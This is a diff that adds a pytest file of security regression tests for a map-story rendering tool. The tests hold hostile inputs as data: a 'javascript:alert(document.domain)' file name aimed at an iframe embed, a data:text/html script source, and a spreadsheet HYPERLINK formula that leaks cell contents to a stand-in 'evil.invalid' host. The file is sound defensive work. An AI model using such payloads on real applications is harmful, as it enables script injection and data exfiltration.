@@ -1,0 +1,79 @@
+"""Hardening, round two (issue 19): what a red-team pass found, each held by a test."""
+
+import csv
+import io
+import os
+import subprocess
+import sys
+
+import pytest
+
+import geo
+from geo.outputs import render_all
+
+DOLLARS = ("title: 'fuel at $5 a litre, bread at $2'\n"
+           "subtitle: '$\\undefinedcommand{x}$ and $$'\n"
+           "places:\n  - {id: a, name: '$x$ town', lonlat: [40, 33]}\n"
+           "  - {id: b, name: Rutba, lookup: Ar Rutbah}\n"
+           "movements:\n  - {from: a, to: b, label: '$3 each, $4 return', date: 2024-12-01}\n"
+           "areas:\n  - {lookup: Al Anbar, label: 'Anbar ($1 bread)'}\n")
+
+
+def test_dollar_signs_are_text_in_every_static_format():
+    # matplotlib reads text between two $ as mathtext: "fuel at $5 a litre, bread at $2"
+    # came out as italic math, and malformed math crashed png, svg, pdf and gif.
+    story = geo.parse_story(DOLLARS)
+    out = render_all(story, ["png", "svg", "pdf", "gif"])
+    svg = out["svg"].decode("utf-8")
+    for text in ("fuel at $5 a litre, bread at $2", "$x$ town", "$3 each, $4 return",
+                 "Anbar ($1 bread)"):
+        assert text in svg, text
+    assert out["png"].startswith(b"\x89PNG") and out["gif"].startswith(b"GIF89a")
+
+
+def test_a_hostile_file_name_never_becomes_a_scheme_in_the_embed_snippet(tmp_path):
+    # A story file named javascript:alert(document.domain).yaml gave
+    # <iframe src="javascript:alert(document.domain).html">, which Chromium ran.
+    story = geo.parse_story("title: t\nplaces: [{id: a, name: A, lonlat: [40, 33]}]\n",
+                            filename=str(tmp_path / "javascript:alert(document.domain).yaml"))
+    snippet = render_all(story, ["html"])["embed.html"].decode("utf-8")
+    assert 'src="javascript%3Aalert%28document.domain%29.html"' in snippet
+    assert "javascript:" not in snippet
+    from geo.web import render_embed
+
+    assert 'src="data%3Atext/html' in render_embed(story, src="data:text/html,<script>")
+    assert 'src="https://news.example/maps/a.html"' in render_embed(
+        story, src="https://news.example/maps/a.html")
+
+
+def test_csv_cells_that_spreadsheets_read_as_formulas_stay_text():
+    story = geo.parse_story(
+        "title: t\nsources: [{id: s, name: '@SUM(1+1)'}]\nplaces:\n"
+        "  - {id: a, name: '=HYPERLINK(\"http://evil.invalid/?leak=\"&A2,\"Click\")',"
+        " lonlat: [40, 33], note: '+1', source: s}\n"
+        "  - {id: b, name: '-2+3', lonlat: [41, 34], note: \"\\tcmd\"}\n")
+    rows = list(csv.DictReader(io.StringIO(render_all(story, ["csv"])["csv"].decode())))
+    assert rows[0]["name"].startswith("'=HYPERLINK(") and rows[0]["note"] == "'+1"
+    assert rows[0]["source_name"] == "'@SUM(1+1)"
+    assert rows[1]["name"] == "'-2+3" and rows[1]["note"] == "'\tcmd"
+
+
+@pytest.mark.skipif(len(os.sched_getaffinity(0)) < 2, reason="one core: nothing is forked")
+def test_a_crash_in_the_forked_copy_is_reported_as_itself():
+    # The cleanup after a failed forked render closed its pipe again, and that EBADF
+    # ("Bad file descriptor") replaced the real error.
+    from geo.fork import forked
+
+    failing = forked(lambda: {}["missing"])
+    with pytest.raises(KeyError):
+        failing()
+    failing(cancel=True)  # a cleanup after the failure: a no-op, not an OSError
+
+
+def test_outputs_follow_the_umask(tmp_path):
+    code = ("import os, geo; os.umask(0o077); "
+            "geo.save(geo.load_story(geo.example_path()), {!r}, formats=['geojson'])")
+    subprocess.run([sys.executable, "-c", code.format(str(tmp_path))], check=True,
+                   capture_output=True)
+    mode = (tmp_path / "syria-iraq-soldiers.geojson").stat().st_mode & 0o777
+    assert mode == 0o600
